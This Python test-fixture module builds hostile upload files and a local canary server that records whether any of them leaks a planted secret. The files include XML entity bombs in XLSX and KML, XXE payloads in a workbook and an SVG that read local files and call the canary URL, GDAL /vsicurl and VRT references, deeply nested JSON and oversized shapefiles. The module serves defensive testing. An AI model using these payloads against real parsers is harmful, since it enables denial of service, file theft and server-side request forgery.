"""Files made to harm, and a canary that notices whether one of them got out.

Each is named as somebody might name it who wants it opened. What refers to something
refers to the canary: a file with a secret in it, and a server that writes down every
request.
"""

from __future__ import annotations

import io
import struct
import threading
import uuid
import zipfile
from collections.abc import Callable, Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from itertools import pairwise
from pathlib import Path

FEATURES = 10_000_000
SQUARE = (14.5, 56.8, 14.6, 56.9)
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
TOP = "http://schemas.openxmlformats.org/package/2006/relationships"
KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/></Types>'
)


@dataclass
class Canary:
    """What no hostile file may reach: a secret in a file, and a server."""

    address: str
    file: Path
    secret: str
    asked: list[str] = field(default_factory=list)  # what the server was asked for


@contextmanager
def canary(folder: Path) -> Iterator[Canary]:
    """Put the secret into a folder, and answer (and note) requests until the end."""
    secret = f"kanarie-{uuid.uuid4().hex}"
    file = folder / "secret.csv"
    file.write_text(f"kod,namn\n{secret},{secret}\n", "utf-8")
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def _note(self) -> None:
            asked.append(f"{self.command} {self.path}")
            self.send_response(200)
            self.end_headers()
            if self.command == "GET":
                self.wfile.write(file.read_bytes())

        do_GET = do_HEAD = do_POST = do_OPTIONS = _note  # noqa: N815

        def log_message(self, *_ignored: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    address = f"http://127.0.0.1:{server.server_port}"
    try:
        yield Canary(address, file, secret, asked)
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


def _workbook(sheet: str, before: str = "") -> bytes:
    head = '<?xml version="1.0" encoding="UTF-8"?>'
    links = f'<Relationships xmlns="{TOP}"><Relationship Id="r1" Type="{KIND}/'
    parts = {
        "[Content_Types].xml": f"{head}{TYPES}",
        "_rels/.rels": f'{head}{links}officeDocument" Target="xl/workbook.xml"/>'
        "</Relationships>",
        "xl/workbook.xml": f'{head}<workbook xmlns="{MAIN}" xmlns:r="{KIND}"><sheets>'
        '<sheet name="A" sheetId="1" r:id="r1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f"{head}{links}worksheet"
        '" Target="worksheets/s.xml"/></Relationships>',
        "xl/worksheets/s.xml": f'{head}{before}<worksheet xmlns="{MAIN}">'
        f'<dimension ref="A1:XFD1048576"/><sheetData>{sheet}</sheetData></worksheet>',
    }
    return _zipped({name: text.encode() for name, text in parts.items()})


def _zipped(parts: Mapping[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def sparse_workbook(_canary: Canary) -> bytes:
    """Give a workbook of two cells, as far from each other as they can be."""
    return _workbook(
        '<row r="1"><c r="A1" t="inlineStr"><is><t>deso</t></is></c></row>'
        '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    )


def endless_workbook(_canary: Canary) -> bytes:
    """Give a workbook of ten million rows."""
    return _workbook("<row><c><v>1</v></c></row>" * FEATURES)


def bomb_workbook(_canary: Canary) -> bytes:
    """Give a workbook whose cell is a name for a name for … 10⁹ letters."""
    return _workbook('<row r="1"><c r="A1"><v>&j;</v></c></row>', _entities())


def outside_workbook(canary: Canary) -> bytes:
    """Give a workbook whose cells stand in other files."""
    return _workbook('<row r="1"><c r="A1"><v>&f;&u;</v></c></row>', _outside(canary))


def _entities() -> str:
    names = "abcdefghij"
    lines = [f'<!ENTITY {names[0]} "aaaaaaaaaa">']
    lines += [
        f'<!ENTITY {name} "{f"&{before};" * 10}">' for before, name in pairwise(names)
    ]
    return f"<!DOCTYPE x [{''.join(lines)}]>"


def _outside(canary: Canary) -> str:
    return (
        f'<!DOCTYPE x SYSTEM "{canary.address}/x.dtd" ['
        f'<!ENTITY f SYSTEM "{canary.file.as_uri()}">'
        f'<!ENTITY u SYSTEM "{canary.address}/entity"> '
        f'<!ENTITY % p SYSTEM "{canary.address}/parameter"> %p;]>'
    )


def kml(canary: Canary) -> bytes:
    """Give a KML of an entity bomb that also links to other places."""
    return (
        f'<?xml version="1.0"?>{_entities()}<kml xmlns="http://www.opengis.net/kml/2.2">'
        f"<NetworkLink><Link><href>{canary.address}/link</href></Link></NetworkLink>"
        "<Placemark><name>&j;</name></Placemark></kml>"
    ).encode()


def svg(canary: Canary) -> bytes:
    """Give a picture that shows what is in other files."""
    return (
        f'<?xml version="1.0"?>{_outside(canary)}<svg xmlns="http://www.w3.org/2000/svg">'
        f'<text>&f;&u;</text><image href="{canary.address}/image"/></svg>'
    ).encode()


def virtual_layer(canary: Canary) -> bytes:
    """Give GDAL's virtual layer: what it holds is read from elsewhere."""
    places = (str(canary.file), f"/vsicurl/{canary.address}/virtual.csv")
    layers = "".join(
        f'<OGRVRTLayer name="secret{at}"><SrcDataSource>{place}</SrcDataSource>'
        "<SrcLayer>secret</SrcLayer></OGRVRTLayer>"
        for at, place in enumerate(places)
    )
    return f"<OGRVRTDataSource>{layers}</OGRVRTDataSource>".encode()


def remote_path(canary: Canary) -> bytes:
    """Give nothing but the name of a file on another server, as GDAL writes it."""
    return f"/vsicurl/{canary.address}/areas.geojson\n".encode()


def deep_json(_canary: Canary) -> bytes:
    """Give lists in lists in lists, closed as they should be."""
    return b"[" * 500_000 + b"]" * 500_000


def deep_areas(_canary: Canary) -> bytes:
    """Give an area whose coordinates are lists in lists in lists."""
    ring = b"[" * 200_000 + b"]" * 200_000
    return (
        b'{"type":"FeatureCollection","features":[{"type":"Feature","properties":'
        b'{"kod":"1"},"geometry":{"type":"Polygon","coordinates":' + ring + b"}}]}"
    )


def empty_areas(_canary: Canary) -> bytes:
    """Give ten million features with nothing in them."""
    return b'{"type":"FeatureCollection","features":[' + b"{}," * FEATURES + b"{}]}"


def mistakes(_canary: Canary) -> bytes:
    """Give a quarter of a million rows that are all wrong."""
    row = "0764X{0:07};2024;abc{0}\n"
    return (
        "områdeskod;år;andel\n" + "".join(row.format(i) for i in range(250_000))
    ).encode()


def many_features(_canary: Canary) -> bytes:
    """Give a zipped shapefile of ten million areas: one shape that all of them have."""
    west, south, east, north = SQUARE
    ring = [(west, south), (west, north), (east, north), (east, south), (west, south)]
    points = b"".join(struct.pack("<2d", *point) for point in ring)
    shape = struct.pack("<i4d2ii", 5, *SQUARE, 1, len(ring), 0) + points
    record = struct.pack(">2i", 1, len(shape) // 2) + shape
    place = struct.pack(">2i", 50, len(shape) // 2)
    field_ = b"kod".ljust(11, b"\0") + b"C" + bytes(4) + bytes([4]) + bytes(15)
    table = struct.pack("<B3BIHH20x", 3, 126, 1, 1, FEATURES, 65, 5) + field_ + b"\r"
    wgs84 = (
        b'GEOGCS["GCS_WGS_1984",DATUM["D_WGS_1984",SPHEROID["WGS_1984",6378137.0,'
        b'298.257223563]],PRIMEM["Greenwich",0.0],UNIT["Degree",0.0174532925199433]]'
    )
    return _zipped(
        {
            "areas.shp": _shape_head(100 + len(record)) + record,
            "areas.shx": _shape_head(100 + 8 * FEATURES) + place * FEATURES,
            "areas.dbf": table + b" 0764" * FEATURES,
            "areas.prj": wgs84,
        }
    )


def _shape_head(size: int) -> bytes:
    return struct.pack(">i20xi", 9994, size // 2) + struct.pack(
        "<2i8d", 1000, 5, *SQUARE, 0, 0, 0, 0
    )


FILES: dict[str, Callable[[Canary], bytes]] = {
    "sparse.xlsx": sparse_workbook,
    "rows.xlsx": endless_workbook,
    "features.zip": many_features,
    "virtual.geojson": virtual_layer,
    "remote.geojson": remote_path,
    "deep.json": deep_json,
    "deep.geojson": deep_areas,
    "entities.xlsx": bomb_workbook,
    "outside.xlsx": outside_workbook,
    "entities.kml": kml,
    "outside.svg": svg,
    "mistakes.csv": mistakes,
}
AREAS: dict[str, Callable[[Canary], bytes]] = {  # more, where areas are asked for
    **{name: FILES[name] for name in FILES if name != "mistakes.csv"},
    "empty.geojson": empty_areas,
    "virtual.gpkg": virtual_layer,
    "virtual.zip": lambda canary: _zipped({"areas.shp": virtual_layer(canary)}),
}
